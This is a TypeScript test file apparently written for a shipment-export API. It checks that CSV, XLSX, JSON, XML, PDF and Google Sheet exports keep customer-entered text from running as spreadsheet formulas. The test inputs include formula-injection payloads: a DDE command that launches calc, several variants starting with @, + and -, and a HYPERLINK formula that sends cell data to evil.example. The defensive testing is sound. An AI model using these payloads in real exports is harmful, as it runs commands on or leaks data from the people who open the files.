import { inflateRawSync } from 'node:zlib'
import { shipments } from '@server/db/schema'
import { parse } from 'csv-parse/sync'
import { and, asc, eq } from 'drizzle-orm'
import ExcelJS from 'exceljs'
import { JSDOM } from 'jsdom'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { startServer, type TestServer } from './harness'

/** What the Google APIs were asked, in order: the export must write values as typed (RAW), never as formulas. */
const googleRequests: { url: string; params?: Record<string, unknown>; data?: { values?: string[][] } }[] = []

vi.mock('google-auth-library', () => ({
  JWT: class {
    async request(options: { url: string; params?: Record<string, unknown>; data?: { values?: string[][] } }) {
      googleRequests.push(options)
      return { data: { spreadsheetId: 'sheet-1', spreadsheetUrl: 'https://docs.google.com/spreadsheets/d/sheet-1' } }
    }
  },
}))

let server: TestServer
const tokens: Record<string, string> = {}

/** Text a spreadsheet app would run as a formula, as a customer can type it into a reference number. */
const DDE = "=cmd|'/C calc'!A0"
const probills: string[] = []

beforeAll(async () => {
  server = await startServer({
    googleServiceAccount: JSON.stringify({ client_email: 'export@example.iam', private_key: 'key' }),
  })
  for (const username of ['employee', 'customer']) tokens[username] = (await server.login(username)).token
  const own = await server.database.db
    .select({ probill: shipments.probill })
    .from(shipments)
    .where(eq(shipments.cust, 'C10001'))
    .orderBy(asc(shipments.probill))
    .limit(2)
  probills.push(...own.map((row) => row.probill))
  // The way in: a customer edits a reference number of their own shipment.
  const edited = await server.call('PUT', `shipments/${probills[0]}`, { token: tokens.customer, json: { ref1: DDE } })
  expect(edited.status).toBe(200)
  // Every other dangerous start, in text, HTML and the control characters, and a real negative number.
  await server.database.db
    .update(shipments)
    .set({
      ref2: '+1+1',
      ref3: '@SUM(1+1)*cmd|calc',
      ref4: '-2+3+cmd|calc',
      shipper: '\t=1+1',
      consignee: '\r=1+1',
      notes: '<p>=HYPERLINK("https://evil.example/?"&amp;A1,"Open")</p>',
      weight: -5,
    })
    .where(and(eq(shipments.probill, probills[1]!)))
})
afterAll(() => server?.close())

async function download(output_type: string) {
  const response = await fetch(`${server.url}/api/export`, {
    method: 'POST',
    headers: { authorization: `Token ${tokens.employee}`, 'content-type': 'application/json' },
    body: JSON.stringify({
      api_url: 'shipments',
      output_type,
      query_params: `probill__in=${probills.join(',')}&sort=probill`,
      title: 'Probills',
      timezone: 'UTC',
    }),
  })
  expect(response.status).toBe(200)
  return Buffer.from(await response.arrayBuffer())
}

/** The text of every file in a zip, read through its central directory. */
function unzipTexts(zip: Buffer): Map<string, string> {
  const files = new Map<string, string>()
  const end = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]))
  let at = zip.readUInt32LE(end + 16)
  for (let i = 0; i < zip.readUInt16LE(end + 10); i++) {
    const method = zip.readUInt16LE(at + 10)
    const size = zip.readUInt32LE(at + 20)
    const nameLength = zip.readUInt16LE(at + 28)
    const local = zip.readUInt32LE(at + 42)
    const name = zip.toString('utf8', at + 46, at + 46 + nameLength)
    const start = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28)
    const data = zip.subarray(start, start + size)
    files.set(name, (method === 8 ? inflateRawSync(data) : data).toString('utf8'))
    at += 46 + nameLength + zip.readUInt16LE(at + 30) + zip.readUInt16LE(at + 32)
  }
  return files
}

/** The rows of a table as { column label: cell } objects. */
function byLabel(records: string[][]): Record<string, string>[] {
  const [header, ...rows] = records
  return rows.map((row) => Object.fromEntries(header!.map((label, i) => [label, row[i] as string])))
}

describe('exports and spreadsheet formulas', () => {
  it('CSV: text that would start a formula is quoted with an apostrophe; numbers stay numbers', async () => {
    const bytes = await download('CSV')
    const rows = byLabel(parse(bytes.toString('utf8').slice(1), { relax_column_count: false }))
    expect(rows).toHaveLength(2)
    const [first, second] = rows as [Record<string, string>, Record<string, string>]
    expect(first['Probill number']).toBe(probills[0])
    expect(first['Reference number 1']).toBe(`'${DDE}`)
    expect(second['Reference number 2']).toBe("'+1+1")
    expect(second['Reference number 3']).toBe("'@SUM(1+1)*cmd|calc")
    expect(second['Reference number 4']).toBe("'-2+3+cmd|calc")
    expect(second.Shipper).toBe("'\t=1+1")
    expect(second.Consignee).toBe("'\r=1+1")
    // HTML cells are neutralised after they become text.
    expect(second.Notes).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"Open")`)
    // A real number is written as the number it is.
    expect(second['Weight (lb)']).toBe('-5')
    // Ordinary text is untouched.
    expect(second['Probill number']).toBe(probills[1])
    for (const row of rows) {
      for (const [label, cell] of Object.entries(row)) {
        if (label !== 'Weight (lb)') expect(cell, label).not.toMatch(/^[=+\-@\t\r]/)
      }
    }
  })

  it('XLSX: such text is stored as a text cell, never as a formula', async () => {
    const bytes = await download('XLSX')
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer)
    const sheet = workbook.worksheets[0]!
    const labels = (sheet.getRow(1).values as unknown[]).slice(1) as string[]
    const cell = (row: number, label: string) => sheet.getRow(row).getCell(labels.indexOf(label) + 1)
    const texts: [number, string, string][] = [
      [2, 'Reference number 1', DDE],
      [3, 'Reference number 2', '+1+1'],
      [3, 'Reference number 3', '@SUM(1+1)*cmd|calc'],
      [3, 'Reference number 4', '-2+3+cmd|calc'],
      [3, 'Notes', '=HYPERLINK("https://evil.example/?"&A1,"Open")'],
    ]
    for (const [row, label, text] of texts) {
      expect(cell(row, label).type, label).toBe(ExcelJS.ValueType.String)
      expect(cell(row, label).formula, label).toBeUndefined()
      expect(cell(row, label).value, label).toBe(text)
    }
    expect(cell(3, 'Weight (lb)').value).toBe(-5)
    // No formula element in the sheet's XML either.
    const sheetXml = [...unzipTexts(bytes)].find(([name]) => name.startsWith('xl/worksheets/'))![1]
    expect(sheetXml).toContain('cmd|')
    expect(sheetXml).not.toMatch(/<f[\s>]/)
  })

  it('JSON, XML and PDF are not read as formulas: they keep the text as typed', async () => {
    const json: Record<string, unknown>[] = JSON.parse((await download('JSON')).toString('utf8'))
    expect(json[0]!.ref1).toBe(DDE)
    expect(json[1]!.weight).toBe(-5)
    const xml = new new JSDOM('').window.DOMParser().parseFromString(
      (await download('XML')).toString('utf8'),
      'application/xml',
    )
    expect(xml.getElementsByTagName('ref1')[0]?.textContent).toBe(DDE)
    expect((await download('PDF')).subarray(0, 5).toString('latin1')).toBe('%PDF-')
  })

  it('Google Sheet: values are written RAW, so the sheet shows the text and runs nothing', async () => {
    googleRequests.length = 0
    const result = await server.call('POST', 'export', {
      token: tokens.employee,
      json: {
        api_url: 'shipments',
        output_type: 'Google Sheet',
        query_params: `probill__in=${probills.join(',')}&sort=probill`,
        title: 'Probills',
        timezone: 'UTC',
      },
    })
    expect(result.status).toBe(200)
    const appends = googleRequests.filter((request) => request.url.endsWith(':append'))
    expect(appends.length).toBeGreaterThan(1)
    for (const append of appends) expect(append.params?.valueInputOption).toBe('RAW')
    const values = appends.flatMap((append) => append.data?.values ?? [])
    const header = values[0]!
    expect(values[1]![header.indexOf('Reference number 1')]).toBe(DDE)
  })
})
